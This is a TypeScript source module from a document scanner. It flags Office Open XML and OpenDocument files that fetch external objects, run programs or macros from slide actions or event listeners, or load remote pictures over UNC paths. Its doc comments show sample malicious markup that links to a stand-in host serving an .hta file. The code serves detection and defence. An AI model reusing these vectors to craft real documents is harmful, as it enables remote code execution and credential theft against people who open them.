import { decodeEntities } from './html-text.js';
import { XML_PREFIX, xmlAttributes, xmlText } from './xml-document.js';

// An Office Open XML document's relationships (`_rels/*.rels`) may name parts outside it (`TargetMode="External"`),
// which Word fetches as the document opens: an OLE object linked to `http://host/run.hta` (the CVE-2017-0199
// shape), a template, a frame. Hyperlinks are left out: a reader follows one only by clicking it, as in a body.
// A tag's attributes end at the next `>` outside quotes (an attribute value may hold `>`, not `<`): each character
// is read once, however the tags are cut.
const RELATIONSHIP = new RegExp(`<${XML_PREFIX}Relationship\\b((?:[^<>"']|"[^<"]*"|'[^<']*')*)`, 'gi');
// A link whose address is a macro, which LibreOffice runs when the link is followed (attacker round 58).
const MACRO_URL = /^(?:vnd\.sun\.star\.script|macro):/i;

/** An external relationship's target, and whether Word fetches it as a picture (drawn, never run). */
export interface ExternalTarget {
  target: string;
  picture: boolean;
}

/**
 * The targets of a relationships part's external relationships other than hyperlinks. Linear in its size.
 *
 * @example
 * ```ts
 * externalTargets(Buffer.from('<Relationship Type="…/oleObject" Target="http://evil.example/x.hta" TargetMode="External"/>'));
 * // [{ target: 'http://evil.example/x.hta', picture: false }]
 * ```
 */
export function externalTargets(rels: Buffer): ExternalTarget[] {
  const xml = xmlText(rels);
  if (!/external/i.test(xml) && !xml.includes('&')) return [];
  const targets: ExternalTarget[] = [];
  for (const m of xml.matchAll(RELATIONSHIP)) {
    const attributes = xmlAttributes(m[1] as string);
    if (attributes.get('targetmode')?.toLowerCase() !== 'external') continue;
    const type = attributes.get('type') ?? '';
    const target = attributes.get('target');
    // A hyperlink is followed only when clicked, unless LibreOffice (which opens OOXML too) runs it as a macro.
    if (/\/hyperlink$/i.test(type) && !MACRO_URL.test(target?.trim() ?? '')) continue;
    if (target) targets.push({ target, picture: /\/image$/i.test(type) });
  }
  return targets;
}

// PowerPoint's action settings: a shape's hyperlink (`a:hlinkClick`, or `a:hlinkHover`, which fires on mouse-over
// without a click) whose `action` is `ppaction://program` runs the relationship's target as a program, and
// `ppaction://macro` runs a macro (attacker round 52).
const SLIDE_ACTION = new RegExp(
  `<${XML_PREFIX}hlink(?:Click|Hover)\\b((?:[^<>"']|"[^<"]*"|'[^<']*')*)`,
  'gi',
);

/**
 * Whether a slide part holds an action that runs a program or a macro, whatever it runs: an OOXML action setting, or
 * an OpenDocument interaction or event listener (run a program, activate an object, run a macro or script). Linear
 * in its size.
 *
 * @example
 * ```ts
 * runsSlideProgram('<a:hlinkHover r:id="rId2" action="ppaction://program"/>'); // true
 * ```
 */
export function runsSlideProgram(markup: string): boolean {
  return runsOoxmlProgram(markup) || runsOdfProgram(markup);
}

function runsOoxmlProgram(markup: string): boolean {
  if (!/ppaction|&/i.test(markup)) return false;
  for (const m of markup.matchAll(SLIDE_ACTION)) {
    const action = xmlAttributes(m[1] as string).get('action') ?? '';
    if (/^ppaction:\/\/(?:program|macro)\b/i.test(action)) return true;
  }
  return false;
}

// OpenDocument interactions (`office:event-listeners`, attacker round 53): a `presentation:event-listener` whose
// `presentation:action` is `execute` runs the program its `xlink:href` names ("Run program" in Impress), `verb`
// activates an embedded object (a package opens the file it holds); a `script:event-listener` binds the event to a
// macro or script, which LibreOffice runs (CVE-2019-9848: a shipped script on mouse-over). OpenOffice.org 1.x
// (.sxi) writes `presentation:event` and `script:event`, which LibreOffice converts as it opens them. A document
// chooses its prefixes: elements and attributes are matched by their local names.
const ODF_EVENT = new RegExp(
  `<${XML_PREFIX}event(-listener)?(?=[\\s/>])((?:[^<>"']|"[^<"]*"|'[^<']*')*)`,
  'gi',
);

// A link (`text:a`, a shape's `draw:a`, any `xlink:href`) whose address is a macro ({@link MACRO_URL}), run as one
// bound to an event is.
const HREF = /\bhref\s*=\s*(?:"([^"<]*)"|'([^'<]*)')/gi;

function runsOdfProgram(markup: string): boolean {
  if (!/opendocument|openoffice|&/i.test(markup)) return false;
  for (const m of markup.matchAll(HREF))
    if (MACRO_URL.test(decodeEntities(m[1] ?? m[2] ?? '').trim())) return true;
  for (const m of markup.matchAll(ODF_EVENT)) {
    const attributes = new Map<string, string>();
    for (const [name, value] of xmlAttributes(m[2] as string))
      attributes.set(name.slice(name.lastIndexOf(':') + 1), value);
    if (/^(?:execute|verb)$/i.test(attributes.get('action') ?? '')) return true;
    if (
      attributes.has('macro-name') ||
      /^(?:vnd\.sun\.star\.script|macro):/i.test(attributes.get('href') ?? '')
    )
      return true;
    // A language names the script an ODF listener runs; a bare `<event language="en">` elsewhere is no macro.
    if (m[1] !== undefined && attributes.has('language')) return true;
  }
  return false;
}

// OpenDocument names an object from outside its package by an `xlink:href` that is no package path (attacker round
// 58): a linked object (`draw:object`, `draw:object-ole`), a linked section (`text:section-source`), a floating
// frame, a sheet or range linked to another file (`table:table-source`, `table:cell-range-source`). LibreOffice
// loads each as the document opens (after its "update links" prompt), as Word fetches an OOXML document's external
// objects and frames. Pictures and hyperlinks are left out, as in OOXML.
const ODF_LINKING = new RegExp(
  `<${XML_PREFIX}(?:object|object-ole|section-source|floating-frame|table-source|cell-range-source)(?=[\\s/>])((?:[^<>"']|"[^<"]*"|'[^<']*')*)`,
  'gi',
);

/**
 * The `xlink:href` of each OpenDocument element that loads an object from outside the package. A path is the
 * package's unless, as xmloff's `IsPackageURL` reads it, it starts with `/` or `..`, or has a scheme (a `:` before
 * any `/`). Linear in its size.
 *
 * @example
 * ```ts
 * odfExternalLinks('<draw:object-ole xlink:href="file://evil.example/s/x.hta"/>'); // ['file://evil.example/s/x.hta']
 * ```
 */
export function odfExternalLinks(markup: string): string[] {
  if (!/href/i.test(markup)) return [];
  const links: string[] = [];
  for (const m of markup.matchAll(ODF_LINKING))
    for (const [name, value] of xmlAttributes(m[1] as string))
      if (name.slice(name.lastIndexOf(':') + 1) === 'href' && !isPackagePath(value)) links.push(value);
  return links;
}

// OpenDocument pictures linked from outside the package (`draw:image`, a fill or background image): drawn, never run,
// so listed by their names alone, but LibreOffice (and Word, opening an `.odt`) loads each as the document opens, and
// one on another computer (`\\host\share\logo.png`) signs in to it as the user (attacker round 118).
const ODF_PICTURE = new RegExp(
  `<${XML_PREFIX}(?:image|fill-image|background-image)(?=[\\s/>])((?:[^<>"']|"[^<"]*"|'[^<']*')*)`,
  'gi',
);

/**
 * The `xlink:href` of each OpenDocument picture loaded from outside the package ({@link odfExternalLinks}' reading
 * of a package path). Linear in its size.
 *
 * @example
 * ```ts
 * odfLinkedPictures('<draw:image xlink:href="file:///\\\\evil.example\\s\\logo.png"/>'); // ['file:///\\\\evil.example\\s\\logo.png']
 * ```
 */
export function odfLinkedPictures(markup: string): string[] {
  if (!/href/i.test(markup)) return [];
  const links: string[] = [];
  for (const m of markup.matchAll(ODF_PICTURE))
    for (const [name, value] of xmlAttributes(m[1] as string))
      if (name.slice(name.lastIndexOf(':') + 1) === 'href' && !isPackagePath(value)) links.push(value);
  return links;
}

function isPackagePath(href: string): boolean {
  if (href.startsWith('/') || href.startsWith('..')) return false;
  const slash = href.indexOf('/', 1);
  const colon = href.indexOf(':', 1);
  return colon < 0 || (slash >= 0 && slash < colon);
}
